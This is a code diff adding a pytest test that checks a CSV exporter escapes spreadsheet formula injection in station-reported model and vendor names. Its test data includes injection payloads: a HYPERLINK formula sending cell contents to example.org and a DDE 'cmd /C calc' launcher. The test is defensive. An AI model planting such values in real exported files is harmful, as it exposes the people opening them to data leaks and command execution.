@@ -120,3 +120,22 @@ def test_an_error_in_json_carries_its_findings(capsys: pytest.CaptureFixture[str
     said = json.loads(capsys.readouterr().err)["error"]["findings"]
 
     assert said == [{"code": "csr.key.weak", "severity": "error", "clause": "A00.FR.503", "says": "the key is weak"}]
+
+
+@pytest.mark.parametrize(
+    ("value", "shown"),
+    [
+        ('=HYPERLINK("http://example.org/?"&A1)', '\'=HYPERLINK("http://example.org/?"&A1)'),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("=CP-1", "=CP-1"),
+        ("@SN/1 #2", "@SN/1 #2"),
+        ("Volta (new)", "Volta (new)"),
+    ],
+)
+def test_a_spreadsheet_finds_no_formula_in_what_a_station_said(
+    value: str, shown: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Model and vendor are the station's own words; identities, which can call nothing, stay as they are."""
+    show_rows(Output.CSV, "things", [{"name": value}], ("name",))
+    assert list(csv.reader(io.StringIO(capsys.readouterr().out))) == [["name"], [shown]]
